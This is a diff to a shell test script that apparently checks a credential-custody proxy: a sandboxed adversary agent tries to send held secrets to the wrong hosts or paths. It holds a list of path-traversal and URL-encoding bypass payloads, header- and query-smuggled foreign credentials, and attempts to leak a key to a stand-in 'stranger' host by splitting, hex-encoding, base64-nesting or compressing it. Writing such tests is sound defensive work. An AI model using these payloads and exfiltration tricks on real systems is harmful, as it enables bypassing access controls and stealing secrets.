@@ -12,6 +12,7 @@ for tool in openssl /usr/bin/python3 zstd; do
 done
 python=/usr/bin/python3
 door_ca
+door_cert origin 'DNS:*.example.test,DNS:example.test,DNS:*.wild.example.test'
 $python tests/custody/adversary_origin.py "$work/received" "$work/origin.pem" "$work/origin.key" >"$work/ports" 2>"$work/origin.err" &
 door_pids+=($!)
 within 10 grep -q tls= "$work/ports"
@@ -78,4 +79,138 @@ guessed=$(in_box adversary cat guess.seen)
 same "held: reading a value letter by letter at the edges of answers of one's own" "$(cut -d' ' -f1,2 <<<"$guessed")" "sk-fake- 777"
 [ "${guessed##* }" -ge 62 ]
 check "control: it could ask" $? "$guessed $(tail -n 1 "$work/guess.err")"
+
+# --- a secret where it does not belong ---------------------------------------------------------------
+
+# attempt HOST NAME WANT: the request on stdin; WANT is the status that the box is to see.
+attempts=()
+attempt() {
+	local text
+	text=$(cat && echo x)
+	$python -c 'import json, sys; print(json.dumps([sys.argv[1], sys.argv[2][:-1]]))' "$2" "$text" >>"$work/ws/send.$1"
+	attempts+=("$1	$2	$3")
+}
+get() { # host, name, want, target, field...
+	local host=$1 name=$2 want=$3 target=$4
+	shift 4
+	attempt "$host" "$name" "$want" < <(
+		printf 'GET %s HTTP/1.1\nhost: %s\nconnection: close\n' "$target" "$host"
+		[ $# = 0 ] || printf '%s\n' "$@"
+		echo
+	)
+}
+b64() { printf %s "$1" | base64 -w0; }
+get paths.example.test "control: below its path" 200 /v1/x "authorization: Bearer $path_key"
+n=0
+for target in /v1/../admin /v1/%2e%2e/admin /v1/..%2fadmin /v1%2f..%2fadmin '/v1/..;/admin' /v1/.%2e/admin '/v1/..\admin' /v1/..%5cadmin //v1/x \
+	/v1//../../admin /V1/x /v1/%252e%252e/admin /v1/x%00/../../admin /v1/%2e%2e%2fadmin '/v1/x/..;x=y/../admin' /v1/%c0%ae%c0%ae/admin \
+	https://paths.example.test/admin /admin?/v1/x '/admin;/v1/x' /v1x/y '/v1/%2E%2E;/admin' '/./admin' '/v1/x/%2e%2e%2f%2e%2e%2fadmin'; do
+	n=$((n + 1))
+	get paths.example.test "a path that leads elsewhere: $target" any "$target" "authorization: Bearer $path_key"
+done
+get api.example.test "control: its place" 200 /x "authorization: Bearer $key"
+get api.example.test "a foreign credential besides it" 403 /x "authorization: Bearer $key" "authorization: Bearer sk-foreign-credential-1"
+get api.example.test "a foreign credential before it" 403 /x "authorization: Bearer sk-foreign-credential-1" "authorization: Bearer $key"
+get api.example.test "two in one field" 403 /x "authorization: Bearer $key, Bearer sk-foreign-credential-1"
+get api.example.test "a foreign credential in a field of another name" 403 /x "x-api-key: sk-foreign-credential-1"
+get api.example.test "a foreign credential with an underscore" 403 /x "x_api_key: sk-foreign-credential-1"
+get api.example.test "a foreign credential in the query" 403 '/x?api_key=sk-foreign-credential-1'
+get api.example.test "a foreign credential in the query, escaped" 403 '/x?%61pi_key=sk-foreign-credential-1'
+get api.example.test "a foreign credential in the query behind a semicolon" 403 '/x?a=b;api_key=sk-foreign-credential-1'
+get api.example.test "another scheme" 403 /x "authorization: Digest $key"
+get api.example.test "no scheme" 403 /x "authorization: $key"
+get api.example.test "behind a tab" 403 /x "authorization: Bearer	$key"
+get api.example.test "as basic" 403 /x "authorization: Basic $(b64 "x:$key")"
+get api.example.test "as proxy-authorization, which goes no further" any /x "proxy-authorization: Bearer $key"
+get api.example.test "for another host in Host" any /x "authorization: Bearer $key" "host: stranger.example.test"
+get api.example.test "for another host in the target" any https://stranger.example.test/x "authorization: Bearer $key"
+get stranger.example.test "at a stranger" 403 /x "authorization: Bearer $key"
+get stranger.example.test "at a stranger, in halves of one field" 403 /x "x-a: ${key:0:20}%${key:20}" "x-b: $(printf %s "$key" | xxd -p | tr -d '\n')"
+get wild.example.test "where only names below belong" 403 /x "authorization: Bearer $wild_key"
+get a.wild.example.test "control: a name below" 200 /x "authorization: Bearer $wild_key"
+get awild.example.test "a name that ends alike" 403 /x "authorization: Bearer $wild_key"
+get basic.example.test "control: as password" 200 /double "authorization: Basic $(b64 "me:$basic_key")"
+get basic.example.test "basic with a line end behind it" 403 /x "authorization: Basic $(b64 "me:$basic_key
+x: y")"
+get basic.example.test "basic without a colon" 403 /x "authorization: Basic $(b64 "$basic_key")"
+get basic.example.test "basic with another's placeholder as user" 403 /x "authorization: Basic $(b64 "$key:$basic_key")"
+get basic.example.test "basic in the other alphabet" any /x "authorization: Basic $(b64 "me??>>:$basic_key" | tr '+/' '-_')"
+# A body in each coding at a stranger.
+$python - "$key" "$work/ws/send.stranger.example.test" <<'PY' >"$work/codings"
+import base64, gzip, json, subprocess, sys, zlib
+key, out = sys.argv[1].encode(), open(sys.argv[2], "a")
+text = b"some words before it " * 9 + key + b" and behind"
+c = zlib.compressobj(wbits=-15)
+raw = c.compress(text) + c.flush()
+bodies = {"gzip": gzip.compress(text), "x-gzip": gzip.compress(text), "GZIP": gzip.compress(text), "deflate": zlib.compress(text), "Deflate": raw,
+          "gzip, gzip": gzip.compress(gzip.compress(text)), "identity, gzip": gzip.compress(text), "zstd": subprocess.run(["zstd", "-cq"], input=text, stdout=subprocess.PIPE).stdout,
+          "identity": text}
+try:
+    import brotli
+    bodies["br"] = brotli.compress(text)
+except ImportError:
+    pass
+for name, body in bodies.items():
+    name = "a body at a stranger in " + name
+    out.write(json.dumps([name, "POST /x HTTP/1.1\nhost: stranger.example.test\nconnection: close\ncontent-length: %d\ncontent-encoding: %s\n\n" % (len(body), name.split(" in ")[1])
+                          + body.decode("latin-1")]) + "\n")
+    print(name)
+mime = base64.encodebytes(b"x" * 40 + key + b"y" * 40).replace(b"\n", b"\r\n")
+name = "a body at a stranger in lines of base64"
+out.write(json.dumps([name, "POST /x HTTP/1.1\nhost: stranger.example.test\nconnection: close\ncontent-type: multipart/mixed\ncontent-length: %d\n\n" % len(mime) + mime.decode()]) + "\n")
+print(name)
+PY
+while read -r name; do attempts+=("stranger.example.test	$name	403"); done <"$work/codings"
+: >"$work/received"
+for host in $(printf '%s\n' "${attempts[@]}" | cut -f1 | sort -u); do
+	in_box adversary sh -c "exec $python adversary_agent.py send $host 443 '' out.$host <send.$host" 2>>"$work/send.err"
+	in_box adversary cat "out.$host" >"$work/out.$host"
+done
+for one in "${attempts[@]}"; do
+	IFS=$'\t' read -r host name want <<<"$one"
+	got=$(awk -F'\t' -v n="$name" '$1 == n { print $2; exit }' "$work/out.$host")
+	[ "$want" = any ] || same "$name" "$got" "$want"
+done
+# What origins received: a value only at its host and below its path, however that is read, and no foreign credential with it.
+$python - "$work/received" "$ADV_KEY" "$ADV_PATH" "$ADV_WILD" "$ADV_BASIC" "$key" "$path_key" "$wild_key" "$basic_key" >"$work/wrong" 2>&1 <<'PY'
+import base64, json, posixpath, re, sys, urllib.parse
+values, stands = sys.argv[2:6], sys.argv[6:]
+def meant(path):
+    for _ in range(3):
+        path = urllib.parse.unquote(path.replace("%c0%ae", "."))
+    path = re.sub(r";[^/]*", "", path.replace("\\", "/").split("\0")[0])
+    return posixpath.normpath(path)
+place = {values[0]: r"api\.example\.test", values[1]: r"paths\.example\.test", values[2]: r"[^.]+\.wild\.example\.test", values[3]: r"basic\.example\.test"}
+seen = set()
+for line in open(sys.argv[1], encoding="utf-8"):
+    r = json.loads(line)
+    text = line + "".join(base64.b64decode(v[6:] + "==", validate=False).decode("latin-1") for n, v in r["fields"] if v.startswith("Basic "))
+    for v in values:
+        if v in text:
+            seen.add(v)
+            if not re.fullmatch(place[v], r["host"]) or "foreign" in text:
+                print("value at", r["host"], r["line"])
+            if v == values[1] and not meant(r["line"].split(" ")[1].split("?")[0]).startswith("/v1/"):
+                print("value at", r["line"])
+    for s in stands:
+        if s in text:
+            print("placeholder at", r["host"], r["line"])
+print("seen", len(seen))
+PY
+same "values and placeholders reached nobody else" "$(cat "$work/wrong")" "seen 4"
+# The whole field in another coding once more: base64 in base64.
+in_box adversary $python -c 'import socket, ssl, sys
+s = ssl.create_default_context().wrap_socket(socket.create_connection(("basic.example.test", 443)), server_hostname="basic.example.test")
+s.sendall(("GET /double HTTP/1.1\r\nhost: basic.example.test\r\nconnection: close\r\nauthorization: Basic %s\r\n\r\n" % sys.argv[1]).encode())
+while (p := s.recv(65536)): sys.stdout.write(p.decode("latin-1"))' "$(b64 "me:$basic_key")" >"$work/double" 2>&1
+$python - "$work/double" "$ADV_BASIC" "$basic_key" >"$work/double.out" <<'PY'
+import base64, re, sys
+body = open(sys.argv[1], encoding="latin-1", newline="").read().partition("\r\n\r\n")[2].split("\n")
+body = [x for x in body if len(x) > 40]
+texts = [base64.b64decode(body[0] + "==").decode("latin-1"), bytes.fromhex(body[1]).decode("latin-1")] if len(body) > 1 else []
+for n, t in zip(("base64", "hex"), texts):
+    inner = base64.b64decode(t.partition("Basic ")[2] + "==").decode("latin-1")
+    print(n, "taken" if sys.argv[2][9:] in inner else "held" if sys.argv[3][9:-3] in inner else "other")
+PY
+same "held: the field of basic in another coding" "$(tr '\n' ' ' <"$work/double.out")" "base64 held hex held "
 exit "$bad"
